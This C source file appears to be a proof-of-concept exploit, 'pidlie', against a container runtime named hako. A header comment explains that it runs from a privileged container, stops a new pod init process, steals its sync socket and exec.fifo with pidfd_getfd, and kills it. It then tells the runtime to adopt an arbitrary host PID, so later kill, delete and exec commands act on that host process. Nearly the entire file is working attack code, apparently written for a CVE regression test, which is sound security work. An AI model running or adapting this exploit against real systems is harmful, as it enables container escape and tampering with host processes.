// pidlie: run in a container "a" holding CAP_SYS_PTRACE (and CAP_KILL, uid 0,
// no user namespace). When hako creates a pod member in a's pid namespace,
// the member's init (second stage, PodInit) holds hako create's sync socket
// until it execs. We stop it at birth, take that socket and the exec.fifo
// ends with pidfd_getfd, kill the real init, and tell hako create
//   "pid:N" then "ready"
// where N is any HOST pid. hako adopts N as the container's init
// (Create.swift adoptSecondStage trusts the pid, and takes any number of
// them): the state records N, ProcessSettings.applyByPid sets the process's
// oom_score_adj/scheduler on N, and from then on `hako kill`/`delete`
// signal host pid N and `hako exec` enters N's namespaces and root.
// We keep the exec.fifo reader open so that `hako start` succeeds.
// Usage: pidlie HOSTPID (THREADS=N spinners, 8 by default); cves.bats
// pod-pid runs it (the fourth cold attack of 2026-12-07).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <time.h>
#include <pthread.h>

static char seen[4194304];
static volatile int stopped;
// The pod's pids are handed out in order: the next new one is one past our
// threads' ids. Spin on it so that it stops before it reports ready.
static volatile int target, ready;
static void *spin(void *arg) {
    __sync_fetch_and_add(&ready, 1);
    while (!target) ;
    int p = target;
    while (!stopped) if (kill(p, SIGSTOP) == 0) stopped = p;
    return 0;
}

int main(int argc, char **argv) {
    const char *victim = argc > 1 ? argv[1] : "1";
    pid_t self = getpid();
    setvbuf(stdout, 0, _IONBF, 0);
    printf("pidlie: pid %d, will name host pid %s\n", self, victim);
    // everything present now is not the target
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > 0 && p < (int)sizeof seen) seen[p] = 1; }
    closedir(d);
    // The pod's pids are handed out in order: the next new one is ours+1.
    // Spin on it so that it is stopped before it can report ready.
    int nthreads = getenv("THREADS") ? atoi(getenv("THREADS")) : 8;
    for (int t = 0; t < nthreads; t++) { pthread_t th; pthread_create(&th, 0, spin, 0); }
    while (ready < nthreads) usleep(100);
    target = self + nthreads + 1;
    printf("pidlie: spinning on pid %d\n", target);
    while (!stopped) usleep(100);
    {
        int p = stopped;
        struct timespec ts; clock_gettime(CLOCK_REALTIME, &ts);
        char sp[64], st[2048] = {0}; snprintf(sp, sizeof sp, "/proc/%d/status", p);
        int f = open(sp, O_RDONLY); read(f, st, sizeof st - 1); close(f);
        char *x = strstr(st, "State:"); if (x) x[20] = 0;
        printf("pidlie: %ld.%06ld stopped new pid %d (%s)\n", (long)ts.tv_sec, ts.tv_nsec / 1000, p, x ? x : "?");
    }
    for (;;) {
        d = opendir("/proc");
        while ((e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 1 || p == self || p >= (int)sizeof seen || seen[p]) continue;
            seen[p] = 1;
            kill(p, SIGSTOP); // hold it before it reports ready
            int pidfd = syscall(SYS_pidfd_open, p, 0);
            if (pidfd < 0) continue;
            int sock = -1, fifo[2] = {-1, -1}, nf = 0;
            char path[64], link[256];
            for (int i = 0; i < 64; i++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", p, i);
                int n = readlink(path, link, sizeof link - 1);
                if (n <= 0) continue;
                link[n] = 0;
                if (getenv("DEBUG")) printf("  %d fd %d -> %s\n", p, i, link);
                if (strstr(link, "exec.fifo") && nf < 2) fifo[nf++] = syscall(SYS_pidfd_getfd, pidfd, i, 0);
                else if (!strncmp(link, "socket:", 7) && sock < 0) {
                    int s = syscall(SYS_pidfd_getfd, pidfd, i, 0);
                    int type = 0; socklen_t l = sizeof type;
                    if (s >= 0 && getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) sock = s;
                    else if (s >= 0) close(s);
                }
            }
            if (sock < 0 || nf == 0) { kill(p, SIGCONT); close(pidfd); for (int k = 0; k < nf; k++) close(fifo[k]); continue; }
            printf("pidlie: pod init %d: sync socket and %d exec.fifo ends taken\n", p, nf);
            kill(p, SIGKILL);
            char msg[64];
            snprintf(msg, sizeof msg, "pid:%s", victim);
            { ssize_t r = send(sock, msg, strlen(msg), MSG_NOSIGNAL); printf("pidlie: send %s: %zd %m\n", msg, r); }
            printf("pidlie: send ready: %zd\n", send(sock, "ready", 5, MSG_NOSIGNAL));
            // hold the fifo (so `hako start` finds a reader) and the socket
            for (;;) pause();
        }
        closedir(d);
    }
}
